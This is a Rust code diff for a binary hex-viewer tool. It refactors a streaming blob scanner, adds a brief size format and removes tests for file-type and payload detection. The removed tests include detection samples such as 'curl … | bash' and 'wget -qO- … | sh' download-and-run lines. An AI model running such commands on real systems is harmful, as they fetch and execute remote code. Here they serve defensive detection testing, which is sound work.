-    let own = own_type.map(|t| t.name);
-    findings
-        .iter()
-        .filter(|f| {
-            let is_own = f.offset == 0
-                && match f.kind {
-                    FindingKind::ElfHeader => own == Some(ELF),
-                    FindingKind::PeHeader => matches!(own, Some(PE | MZ)),
-                    FindingKind::MachOHeader => matches!(own, Some(MACHO | MACHO_FAT)),
-                    _ => false,
-                };
-            !is_own
-        })
-        .collect()
-}
-
-// ---------------------------------------------------------------------------
-// One pass over a whole blob
-
-/// How many bytes the payload scan looks at per step of a [`BlobScan`].
-const SCAN_STEP: usize = 1 << 20;
-/// Bytes a step also sees before and after itself, so a finding near a
-/// step's border is seen whole (its line, a PE header's `e_lfanew`, the
-/// shell commands merged with it). Each finding is kept by the one step
-/// its first byte falls in, so none is lost or doubled.
-const SCAN_CONTEXT: usize = 16 << 10;
-/// Bytes kept from a blob's start for its type.
-const HEAD_BYTES: usize = 4096;
-
-/// What a reader must know about a whole blob: see [`BlobScan`].
-#[derive(Debug, Clone, Default)]
-pub struct BlobFacts {
-    /// The blob's size.
-    pub len: u64,
-    /// Its first bytes (4 KiB at most), which say its type.
-    pub head: Vec<u8>,
-    /// Entropy per block, one value per sparkline mark.
-    pub entropy: Vec<f32>,
-    /// Every payload finding in the blob (see [`scan_payloads`]).
-    pub findings: Vec<Finding>,
-}
-
-impl BlobFacts {
-    /// The blob's type, from its magic number.
-    pub fn file_type(&self) -> Option<FileType> {
-        file_type(&self.head)
-    }
-}
-
-/// Type, entropy and payload findings of a blob fed to it in pieces of any
-/// size, front to back, holding at most a few MiB whatever the blob's size:
-/// a 1 GiB blob is read once and never held whole.
-pub struct BlobScan {
-    facts: BlobFacts,
-    block: u64,
-    /// Byte counts of the current entropy block, four interleaved tables
-    /// (one counter per table per byte value avoids store stalls).
-    counts: Box<[[u32; 256]; 4]>,
-    in_block: u64,
-    /// Bytes not yet scanned for payloads, from `window_start`.
-    window: Vec<u8>,
-    window_start: u64,
-    /// Findings before this offset are final.
-    scanned_to: u64,
-}
-
-impl BlobScan {
-    /// A scan of a blob of `len` bytes whose entropy fills at most `marks`
-    /// sparkline marks: 4 KiB blocks (or larger, to fit), 256-byte blocks
-    /// for blobs under 64 KiB.
-    pub fn new(len: u64, marks: usize) -> BlobScan {
-        let floor = if len < 64 * 1024 { 256 } else { 4096 };
-        let block = len.div_ceil(marks.max(1) as u64).max(floor);
-        BlobScan {
-            facts: BlobFacts { len, ..BlobFacts::default() },
-            block,
-            counts: Box::new([[0; 256]; 4]),
-            in_block: 0,
-            window: Vec::with_capacity(SCAN_STEP + 3 * SCAN_CONTEXT),
-            window_start: 0,
-            scanned_to: 0,
-        }
-    }
-
-    /// The next bytes of the blob.
-    pub fn feed(&mut self, mut bytes: &[u8]) {
-        let head_room = HEAD_BYTES.saturating_sub(self.facts.head.len());
-        self.facts.head.extend_from_slice(bytes.get(..head_room.min(bytes.len())).unwrap_or_default());
-        self.count(bytes);
-        // Scan step by step, so the window stays small however much is fed.
-        while !bytes.is_empty() {
-            let room = (SCAN_STEP + 2 * SCAN_CONTEXT).saturating_sub(self.window.len()).max(1);
-            let (now, rest) = bytes.split_at(room.min(bytes.len()));
-            self.window.extend_from_slice(now);
-            bytes = rest;
-            self.scan(false);
-        }
-    }
-
-    /// The facts, once every byte was fed.
-    pub fn finish(mut self) -> BlobFacts {
-        self.scan(true);
-        if self.in_block > 0 {
-            self.close_block();
-        }
-        self.facts
-    }
-
-    fn count(&mut self, mut bytes: &[u8]) {
-        while !bytes.is_empty() {
-            let room = usize::try_from(self.block - self.in_block).unwrap_or(usize::MAX);
-            let (now, rest) = bytes.split_at(room.min(bytes.len()));
-            let [a, b, c, d] = &mut *self.counts;
-            let mut quads = now.chunks_exact(4);
-            for q in &mut quads {
-                if let [w, x, y, z] = *q {
-                    a[usize::from(w)] += 1;
-                    b[usize::from(x)] += 1;
-                    c[usize::from(y)] += 1;
-                    d[usize::from(z)] += 1;
-                }
-            }
-            for &w in quads.remainder() {
-                a[usize::from(w)] += 1;
-            }
-            self.in_block += now.len() as u64;
-            bytes = rest;
-            if self.in_block == self.block {
-                self.close_block();
-            }
-        }
-    }
-
-    fn close_block(&mut self) {
-        let n = self.in_block as f64;
-        let mut h = 0.0f64;
-        for value in 0..256 {
-            let c: u64 = self.counts.iter().map(|t| u64::from(t[value])).sum();
-            if c > 0 {
-                let p = c as f64 / n;
-                h -= p * p.log2();
-            }
-        }
-        self.facts.entropy.push(h.clamp(0.0, 8.0) as f32);
-        *self.counts = [[0; 256]; 4];
-        self.in_block = 0;
-    }
-
-    /// Scans the window if it holds a whole step and its context after
-    /// (or, at the end, whatever is left), keeping the findings that start
-    /// in the step; then drops what the next step does not need.
-    fn scan(&mut self, last: bool) {
-        let window_end = self.window_start + self.window.len() as u64;
-        let step_end = if last {
-            window_end
-        } else if window_end >= self.scanned_to + (SCAN_STEP + SCAN_CONTEXT) as u64 {
-            self.scanned_to + SCAN_STEP as u64
-        } else {
-            return;
-        };
-        let from = self.scanned_to;
-        self.facts.findings.extend(
-            scan_payloads(&self.window, self.window_start).into_iter().filter(|f| (from..step_end).contains(&f.offset)),
-        );
-        self.scanned_to = step_end;
-        let keep_from = step_end.saturating_sub(SCAN_CONTEXT as u64).max(self.window_start);
-        let cut = usize::try_from(keep_from - self.window_start).unwrap_or(usize::MAX).min(self.window.len());
-        self.window.drain(..cut);
-        self.window_start += cut as u64;
-    }
-}
-
 // ---------------------------------------------------------------------------
 // Summary
 
-fn human_size(bytes: u64) -> String {
+/// How [`human_size`] writes a size.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum SizeStyle {
+    /// `512 bytes`, `2.0 KiB (2048 bytes)`: one decimal up to PiB, and the
+    /// exact count (the hex view's summaries).
+    WithExactBytes,
+    /// `512 B`, `2.0 KiB`, `1.5 MiB`, `1.25 GiB`: up to GiB, two decimals
+    /// there (`rearview hex`'s first line).
+    Brief,
+}
+
+/// A byte count as a reader takes it in, in binary units.
+pub fn human_size(bytes: u64, style: SizeStyle) -> String {
     const UNITS: [&str; 5] = ["KiB", "MiB", "GiB", "TiB", "PiB"];
+    const GIB: usize = 2;
     if bytes < 1024 {
-        return format!("{bytes} bytes");
+        return match style {
+            SizeStyle::WithExactBytes => format!("{bytes} bytes"),
+            SizeStyle::Brief => format!("{bytes} B"),
+        };
     }
+    let largest = match style {
+        SizeStyle::WithExactBytes => UNITS.len() - 1,
+        SizeStyle::Brief => GIB,
+    };
+    // Halving by 1024 is exact in floating point, so one division at a
+    // time gives what dividing by the unit at once would.
     let mut value = bytes as f64 / 1024.0;
     let mut unit = 0;
-    while value >= 1024.0 && unit + 1 < UNITS.len() {
+    while value >= 1024.0 && unit < largest {
         value /= 1024.0;
         unit += 1;
     }
-    format!("{value:.1} {} ({bytes} bytes)", UNITS.get(unit).copied().unwrap_or("?"))
+    let name = UNITS.get(unit).copied().unwrap_or("?");
+    match style {
+        SizeStyle::WithExactBytes => format!("{value:.1} {name} ({bytes} bytes)"),
+        SizeStyle::Brief if unit == GIB => format!("{value:.2} {name}"),
+        SizeStyle::Brief => format!("{value:.1} {name}"),
+    }
 }
 
 /// Most findings the summary lists one by one.
@@ -1487,7 +593,7 @@ pub fn summary_in(palette: &Palette, blob_len: u64, head: &[u8], findings: &[Fin
         }
         None => first.push("data (no known magic number)", Style::default()),
     }
-    first.push(&format!(" · {}", human_size(blob_len)), dim());
+    first.push(&format!(" · {}", human_size(blob_len, SizeStyle::WithExactBytes)), dim());
     lines.push(first.spans);
 
     if !head.is_empty() {
@@ -1495,7 +601,11 @@ pub fn summary_in(palette: &Palette, blob_len: u64, head: &[u8], findings: &[Fin
         let blocks = entropy_blocks(head, block);
         let mut line = Line::default();
         line.push(
-            &format!("entropy {:.2} bits/byte over the first {} ", entropy(head), human_size(head.len() as u64)),
+            &format!(
+                "entropy {:.2} bits/byte over the first {} ",
+                entropy(head),
+                human_size(head.len() as u64, SizeStyle::WithExactBytes)
+            ),
             Style::default(),
         );
         line.push(&sparkline(&blocks), palette.printable);
@@ -1580,7 +690,7 @@ pub fn binary_lines(
         let text = format!(
             "binary ({}): {kind}, {}; entropy {}",
             side.label,
-            human_size(side.facts.len),
+            human_size(side.facts.len, SizeStyle::WithExactBytes),
             sparkline(&side.facts.entropy)
         );
         out.push((BinaryLine::Summary, line(text, Style::default())));
@@ -1630,6 +740,7 @@ pub fn binary_lines(
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::inspect::scan_payloads;
 
     fn text(line: &StyledLine) -> String {
         line.iter().map(|s| s.text.as_str()).collect()
@@ -1655,6 +766,34 @@ mod tests {
         for b in 0..=255u8 {
             assert!(!glyph(b).is_control(), "{b:#x}");
         }
+    }
+
+    #[test]
+    fn the_default_theme_draws_hexyls_colours() {
+        assert_eq!(Palette::from_theme(&Theme::default()), Palette::default());
+        let bright_black = Style::fg(Color::Indexed(8));
+        let palette = Palette::default();
+        assert_eq!((palette.null, palette.offset, palette.separator), (bright_black, bright_black, bright_black));
+        assert_eq!(palette.printable, Style::fg(Color::Indexed(6)));
+        let finding = Style { fg: Some(Color::Indexed(13)), bold: true, reverse: true, ..Style::default() };
+        assert_eq!(palette.finding, finding);
+    }
+
+    #[test]
+    fn sizes_for_people() {
+        let exact = |n| human_size(n, SizeStyle::WithExactBytes);
+        assert_eq!(exact(1023), "1023 bytes");
+        assert_eq!(exact(2048), "2.0 KiB (2048 bytes)");
+        assert_eq!(exact(3 << 30), "3.0 GiB (3221225472 bytes)");
+        assert_eq!(exact(5 << 50), "5.0 PiB (5629499534213120 bytes)");
+        assert_eq!(exact(u64::MAX), "16384.0 PiB (18446744073709551615 bytes)");
+        let brief = |n| human_size(n, SizeStyle::Brief);
+        assert_eq!(brief(1023), "1023 B");
+        assert_eq!(brief(1536), "1.5 KiB");
+        assert_eq!(brief((1 << 20) - 1), "1024.0 KiB");
+        assert_eq!(brief(5 << 20), "5.0 MiB");
+        assert_eq!(brief(5 << 30 | 1 << 28), "5.25 GiB");
+        assert_eq!(brief(2 << 40), "2048.00 GiB");
     }
 
     #[test]
@@ -1763,150 +902,10 @@ mod tests {
     }
 
     #[test]
-    fn every_magic_number() {
-        let mut tar = vec![0u8; 512];
-        tar[257..263].copy_from_slice(b"ustar\0");
-        let mut pe = vec![0u8; 256];
-        pe[..2].copy_from_slice(b"MZ");
-        pe[0x3c] = 0x80;
-        pe[0x80..0x84].copy_from_slice(b"PE\0\0");
-        let mut lzma = b"\x5d\0\0\x80\0".to_vec();
-        lzma.extend_from_slice(&[0xff; 8]);
-        let cases: Vec<(Vec<u8>, &str)> = vec![
-            (b"\xfd7zXZ\0\0\x04".to_vec(), "xz"),
-            (lzma, "lzma"),
-            (b"\x1f\x8b\x08\0".to_vec(), "gzip"),
-            (b"BZh91AY&SY".to_vec(), "bzip2"),
-            (b"\x28\xb5\x2f\xfd\x04".to_vec(), "zstd"),
-            (b"PK\x03\x04\x14\0".to_vec(), "zip"),
-            (b"7z\xbc\xaf\x27\x1c\0\x04".to_vec(), "7z"),
-            (tar, "tar"),
-            (b"\x7fELF\x02\x01\x01\0".to_vec(), "elf"),
-            (pe, "pe"),
-            (b"MZ\x90\0".to_vec(), "mz"),
-            (b"\xfe\xed\xfa\xce\0\0\0\x12".to_vec(), "macho"),
-            (b"\xce\xfa\xed\xfe\x07\0\0\0".to_vec(), "macho"),
-            (b"\xfe\xed\xfa\xcf\x01\0\0\x07".to_vec(), "macho"),
-            (b"\xcf\xfa\xed\xfe\x0c\0\0\x01".to_vec(), "macho"),
-            (b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07".to_vec(), "macho-fat"),
-            (b"\xca\xfe\xba\xbe\0\0\0\x34".to_vec(), "java-class"),
-            (b"\xca\xfe\xba\xbe\0\x03\0\x2d".to_vec(), "java-class"),
-            (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(), "png"),
-            (b"\xff\xd8\xff\xe0\0\x10JFIF".to_vec(), "jpeg"),
-            (b"GIF89a\x01\0".to_vec(), "gif"),
-            (b"GIF87a\x01\0".to_vec(), "gif"),
-            (b"%PDF-1.7\n".to_vec(), "pdf"),
-            (b"\0asm\x01\0\0\0".to_vec(), "wasm"),
-            (b"SQLite format 3\0\x10\0".to_vec(), "sqlite"),
-        ];
-        for (head, name) in cases {
-            assert_eq!(file_type(&head).map(|t| t.name), Some(name), "{head:02x?}");
-        }
-        for head in [&b""[..], b"hello", b"\xca\xfe\xba\xbe", b"\x5d\0\0", b"\x1f\x8b\x07", b"BZh0"] {
-            assert_eq!(file_type(head), None, "{head:02x?}");
-        }
-    }
-
-    #[test]
-    fn entropy_bounds() {
-        assert_eq!(entropy(&[]), 0.0);
-        assert_eq!(entropy(&[0; 4096]), 0.0);
-        let all: Vec<u8> = (0..=255).collect();
-        assert!((entropy(&all) - 8.0).abs() < 1e-6);
-        assert!((entropy(b"abab") - 1.0).abs() < 1e-6);
-        let blocks = entropy_blocks(&[&[0u8; 256][..], &all[..]].concat(), 256);
-        assert_eq!(blocks.len(), 2);
-        assert_eq!(blocks[0], 0.0);
-        assert!((blocks[1] - 8.0).abs() < 1e-6);
-        assert_eq!(entropy_blocks(&all, 0).len(), 256);
-        assert!(entropy_blocks(&[], 16).is_empty());
-    }
-
-    #[test]
     fn sparklines() {
         assert_eq!(sparkline(&[0.0, 1.0, 2.5, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0]), "▁▂▃▄▅▆▇██");
         assert_eq!(sparkline(&[-1.0, f32::NAN, 99.0, f32::INFINITY]), "▁▁██");
         assert_eq!(sparkline(&[]), "");
-    }
-
-    #[test]
-    fn shell_keywords_need_word_boundaries() {
-        let text = b"we evaluate the exec_prefix; reexec nothing; used based curled; bash_completion | shuf";
-        assert_eq!(scan_payloads(text, 0), Vec::<Finding>::new());
-        let hits = scan_payloads(b"x=1\ncurl -s http://x/a |bash\n", 10);
-        assert_eq!(hits.len(), 1, "{hits:?}");
-        assert_eq!(hits[0].offset, 14);
-        assert_eq!(hits[0].kind, FindingKind::ShellCommand);
-        assert_eq!(hits[0].detail, "curl, | bash: curl -s http://x/a |bash");
-    }
-
-    #[test]
-    fn a_shebang_absorbs_its_interpreter() {
-        let hits = scan_payloads(b"\0\0#!/bin/sh -e\n", 0);
-        assert_eq!(hits.len(), 1, "{hits:?}");
-        assert_eq!(hits[0].kind, FindingKind::Shebang);
-        assert_eq!((hits[0].offset, hits[0].len), (2, 12));
-        assert_eq!(hits[0].detail, "#!/bin/sh -e");
-    }
-
-    #[test]
-    fn random_bytes_are_not_scripts() {
-        // Both were found in 64 MiB of random data before the checks for an
-        // interpreter path and for surrounding text.
-        assert!(scan_payloads(b"\x01#!/\x86\xb4l\x8d\x01\x9e]\xfb", 0).is_empty());
-        assert!(scan_payloads(b"\x9c\xac\x03[\x10|sh\xc9\x07q\\\x0b\xf2\xf8", 0).is_empty());
-        assert!(scan_payloads(b"Z\xfd\x90^\xc1\x12\xa2\xaa\xf4ZJ1\xcb|sh\x8c\x8aWDwb", 0).is_empty());
-        // Real ones still count, also at the window's end.
-        for script in [&b"#! /usr/bin/env python3\n"[..], b"#!/bin/sh", b"\xff\xfe\0#!/bin/bash -x\n"] {
-            let hits = scan_payloads(script, 0);
-            assert_eq!(hits.iter().map(|f| f.kind).collect::<Vec<_>>(), [FindingKind::Shebang], "{script:?}");
-        }
-        let hits = scan_payloads(b"\xff\xfe\0wget -qO- http://x | sh\0\x8c", 0);
-        assert_eq!(hits.len(), 1, "{hits:?}");
-        assert_eq!(hits[0].detail, "wget, | sh: wget -qO- http://x | sh");
-    }
-
-    #[test]
-    fn executable_headers() {
-        let mut pe = vec![0u8; 0x100];
-        pe[..2].copy_from_slice(b"MZ");
-        pe[0x3c] = 0x80;
-        pe[0x80..0x84].copy_from_slice(b"PE\0\0");
-        pe[0x84..0x86].copy_from_slice(&0x8664u16.to_le_bytes());
-        let mut blob = vec![0x55u8; 32];
-        blob.extend_from_slice(&pe);
-        let hits = scan_payloads(&blob, 0);
-        assert_eq!(hits.len(), 1, "{hits:?}");
-        assert_eq!((hits[0].kind, hits[0].offset), (FindingKind::PeHeader, 32));
-        assert!(hits[0].detail.contains("x86-64"), "{}", hits[0].detail);
-        // MZ without a PE signature is not reported.
-        assert!(scan_payloads(b"MZ and then some words", 0).is_empty());
-
-        let macho = b"\xcf\xfa\xed\xfe\x0c\0\0\x01\0\0\0\0\x02\0\0\0";
-        let hits = scan_payloads(macho, 4096);
-        assert_eq!(hits.len(), 1);
-        assert_eq!((hits[0].kind, hits[0].offset), (FindingKind::MachOHeader, 4096));
-        assert!(hits[0].detail.contains("arm64"), "{}", hits[0].detail);
-        // A Java class is not a fat Mach-O.
-        assert!(scan_payloads(b"\xca\xfe\xba\xbe\0\0\0\x34\0\x10", 0).is_empty());
-        // An ELF magic with a nonsense class is not a header.
-        assert!(scan_payloads(b"\x7fELF\x09\x01\x01", 0).is_empty());
-
-        let own = file_type(macho);
-        assert_eq!(own.map(|t| t.name), Some("macho"));
-        let all = scan_payloads(macho, 0);
-        assert!(suspicious(&all, own.as_ref()).is_empty());
-        assert_eq!(suspicious(&all, None).len(), 1);
-        assert_eq!(suspicious(&all, file_type(b"\x7fELF").as_ref()).len(), 1);
-    }
-
-    #[test]
-    fn excerpts_are_escaped() {
-        let hits = scan_payloads(b"\x1b[2J eval \"$(printf '\\x41')\"\x07\x9b\n", 0);
-        assert_eq!(hits.len(), 1);
-        let detail = &hits[0].detail;
-        assert!(!detail.chars().any(char::is_control), "{detail:?}");
-        assert_eq!(detail, "eval: \\x1b[2J eval \"$(printf '\\x41')\"\\x07\\x9b");
     }
 
     #[test]
